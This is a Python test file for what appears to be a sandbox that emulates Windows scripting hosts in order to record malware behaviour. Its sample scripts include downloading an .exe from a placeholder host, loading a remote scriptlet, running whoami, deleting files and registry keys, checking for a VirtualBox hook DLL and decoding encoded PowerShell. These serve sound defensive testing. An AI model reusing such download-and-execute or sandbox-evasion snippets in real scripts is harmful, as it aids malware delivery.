"""The emulated Windows, through VBScript in this process. Rows: script, what it says."""

from __future__ import annotations

import pytest

from gateway.emulation import Kind
from gateway.emulation.automation.errors import MemoryOver, ScriptError
from gateway.emulation.scripts import wire
from gateway.emulation.scripts.engines import Engines
from gateway.emulation.scripts.session import Session
from gateway.emulation.windows.commands import decoded_command
from gateway.emulation.windows.disk import expanded
from gateway.emulation.windows.shell import WScript
from gateway.emulation.windows.sinkhole import endpoint


class _Nowhere:
    def write(self, data: bytes) -> int:
        return 0


def _session(source: str, language: str = "vbscript") -> Session:
    session = Session(wire.Request("s.vbs", "vbscript", 20.0), "wscript.exe", _Nowhere())
    host = WScript(session.world, "C:\\s.vbs", "VBScript", ["/a:1", "two"])
    Engines(session, {"WScript": host}).run(language, source)
    return session


def _said(source: str) -> list[str]:
    return _session(source).world.output


_FSO = 'Set f = CreateObject("Scripting.FileSystemObject") : '
_SHELL = 'Set s = CreateObject("WScript.Shell") : '
_STREAM = 'Set s = CreateObject("ADODB.Stream") : '

TABLE = [
    (_SHELL + 'WScript.Echo s.ExpandEnvironmentStrings("%USERNAME% %nope%")', ["anna %nope%"]),
    (_SHELL + 'WScript.Echo s.SpecialFolders("Startup") <> ""', ["True"]),
    (
        _SHELL + 's.RegWrite "HKCU\\a\\b", 5 : WScript.Echo s.RegRead("HKEY_CURRENT_USER\\A\\B")',
        ["5"],
    ),
    (_SHELL + 'WScript.Echo s.Environment("PROCESS")("OS")', ["Windows_NT"]),
    (_SHELL + 'WScript.Echo s.Exec("cmd /c whoami").StdOut.ReadAll', ["corp\\anna\r\n"]),
    ('WScript.Echo WScript.Arguments(1), WScript.Arguments.Named("a")', ["two 1"]),
    (
        _FSO + 'Set t = f.CreateTextFile("C:\\Windows\\Temp\\a.txt") : t.Write "hi" : t.Close : '
        'WScript.Echo f.OpenTextFile("c:\\windows\\TEMP\\A.TXT").ReadAll',
        ["hi"],
    ),
    (_FSO + 'WScript.Echo f.FileExists("C:\\nope"), f.FolderExists("C:\\Windows")', ["False True"]),
    (_FSO + 'WScript.Echo f.GetBaseName("C:\\a\\b.tar"), f.GetExtensionName("x.Y")', ["b Y"]),
    (
        _FSO + 'WScript.Echo f.BuildPath("C:\\a", "b"), f.GetParentFolderName("C:\\a\\b")',
        ["C:\\a\\b C:\\a"],
    ),
    (
        _FSO
        + 'f.CreateTextFile("C:\\Logs\\a.log").WriteLine "x" : WScript.Echo f.FileExists("C:\\Logs\\a.log")',
        ["True"],
    ),
    (_FSO + 'WScript.Echo f.OpenTextFile("D:\\in\\hosts.txt").ReadLine', ["server01"]),
    (_FSO + 'On Error Resume Next : f.GetFile "C:\\no" : WScript.Echo Err.Number', ["53"]),
    (
        'Set d = CreateObject("Scripting.Dictionary") : d.Add "a", 1 : d("b") = 2 : '
        'WScript.Echo d.Count, d.Exists("A"), Join(d.Keys, ",")',
        ["2 False a,b"],
    ),
    (
        _STREAM + 's.Type = 2 : s.Charset = "utf-8" : s.Open : s.WriteText "ä" : s.Position = 0 : '
        "s.Type = 1 : s.Position = 3 : WScript.Echo LenB(s.Read)",
        ["2"],
    ),
    (
        'Set n = CreateObject("Msxml2.DOMDocument.6.0").createElement("b") : '
        'n.dataType = "bin.base64" : n.text = "aGk=" : WScript.Echo LenB(n.nodeTypedValue)',
        ["2"],
    ),
    (
        'Set x = CreateObject("MSXML2.DOMDocument") : x.loadXML "<a><b>c</b></a>" : '
        'WScript.Echo x.selectSingleNode("//b").text',
        ["c"],
    ),
    (
        'Set h = CreateObject("MSXML2.XMLHTTP") : h.open "GET", "http://a.example/x.exe", False : '
        "h.send : WScript.Echo h.status, LenB(h.responseBody) > 1000",
        ["200 True"],
    ),
    (
        'Set w = GetObject("winmgmts:\\\\.\\root\\cimv2") : For Each o In '
        'w.ExecQuery("Select * From Win32_ComputerSystem") : WScript.Echo o.Model : Next',
        ["OptiPlex 7080"],
    ),
    (
        'Set r = GetObject("winmgmts:\\\\.\\root\\default:StdRegProv") : r.SetStringValue '
        '&H80000001, "k", "n", "v" : r.GetStringValue &H80000001, "k", "n", x : WScript.Echo x',
        ["v"],
    ),
    (
        'Set e = CreateObject("System.Text.UTF8Encoding") : WScript.Echo e.GetByteCount_2("é")',
        ["2"],
    ),
    (
        'Set l = CreateObject("System.Collections.ArrayList") : l.Add "b" : l.Add "a" : l.Sort : '
        'WScript.Echo Join(l.ToArray, "")',
        ["ab"],
    ),
    (
        'Set r = New RegExp : r.Pattern = "(\\d)(\\d)" : r.Global = True : '
        'WScript.Echo r.Replace("12 34", "$2$1")',
        ["21 43"],
    ),
    (
        'Set c = CreateObject("MSScriptControl.ScriptControl") : c.Language = "VBScript" : '
        'c.AddCode "WScript.Echo 7"',
        ["7"],
    ),
]


@pytest.mark.parametrize(("script", "said"), TABLE, ids=lambda value: str(value)[:40])
def test_objects_answer_as_windows_does(script: str, said: list[str]) -> None:
    assert _said(script) == said


@pytest.mark.parametrize(
    ("script", "kind", "action", "target"),
    [
        (_SHELL + 's.Run "calc.exe"', "process", "execute", "C:\\Windows\\System32\\calc.exe"),
        (_SHELL + 's.RegDelete "HKCU\\a"', "registry", "delete", "HKCU\\a"),
        (
            _FSO + 'f.DeleteFile "C:\\Users\\anna\\Documents\\todo.txt"',
            "file",
            "delete",
            "C:\\Users\\anna\\Documents\\todo.txt",
        ),
        (
            'CreateObject("Shell.Application").ShellExecute "notepad"',
            "process",
            "execute",
            "C:\\Windows\\System32\\notepad.exe",
        ),
        ('GetObject("script:http://a.example/s")', "network", "connect", "a.example:80"),
        ("WScript.Sleep 120000", "process", "sleep", "120 s"),
        ('Execute "x = 1"', "script", "execute", "code made of text"),
    ],
)
def test_what_acts_is_written_down(script: str, kind: str, action: str, target: str) -> None:
    seen = _session(script).recorder.behaviours
    assert (Kind(kind), action, target) in [(b.kind, b.action, b.target) for b in seen]


def test_equal_behaviours_are_counted() -> None:
    session = _session(_FSO + 'For i = 1 To 9 : f.FileExists "C:\\vboxhook.dll" : Next')
    looks = [b for b in session.recorder.behaviours if b.kind is Kind.FILE]
    assert [(b.count, b.failed) for b in looks] == [(9, "no such file")]


def test_a_class_there_is_not_is_told() -> None:
    with pytest.raises(ScriptError):
        _session('CreateObject "No.Such"')


def test_files_without_end_are_stopped() -> None:
    with pytest.raises(MemoryOver):
        _session(
            _FSO + 'x = String(9000000, "x") : For i = 1 To 99 : '
            'f.CreateTextFile("C:\\Windows\\Temp\\" & i).Write x : Next'
        )


def test_jscript_reaches_the_same_objects() -> None:
    script = (
        "var d = new ActiveXObject('Scripting.Dictionary'); d.Add('k', [1, 2]);"
        "var e = new Enumerator(new ActiveXObject('Scripting.FileSystemObject').Drives), n = '';"
        "for (; !e.atEnd(); e.moveNext()) n += e.item().DriveLetter;"
        "WScript.Echo(d('k')[1] + n, d.Count);"
    )
    assert _session(script, "jscript").world.output == ["2CDH 1"]


@pytest.mark.parametrize(
    ("line", "script"),
    [
        ("powershell -e ZQBjAGgAbwAgAGgAaQAgADEA", "echo hi 1"),
        ("powershell.exe -NoP -EncodedCommand ZQBjAGgAbwAgAGgAaQAgADEA", "echo hi 1"),
        ("powershell -c echo", ""),
    ],
)
def test_encoded_commands_are_decoded(line: str, script: str) -> None:
    assert decoded_command(line) == script


@pytest.mark.parametrize(
    ("address", "where"),
    [
        ("http://a.example/x", "a.example:80"),
        ("HTTPS://b.example:8443/", "b.example:8443"),
        ("\\\\files.example\\share\\x", "files.example:445"),
        ("http://[bad", "http://[bad"),
    ],
)
def test_endpoints(address: str, where: str) -> None:
    assert endpoint(address) == where


@pytest.mark.parametrize(
    ("text", "result"),
    [("%OS%", "Windows_NT"), ("50% of 100%", "50% of 100%"), ("%a%OS%", "%aWindows_NT")],
)
def test_variables_expand_as_windows_does(text: str, result: str) -> None:
    assert expanded(text) == result
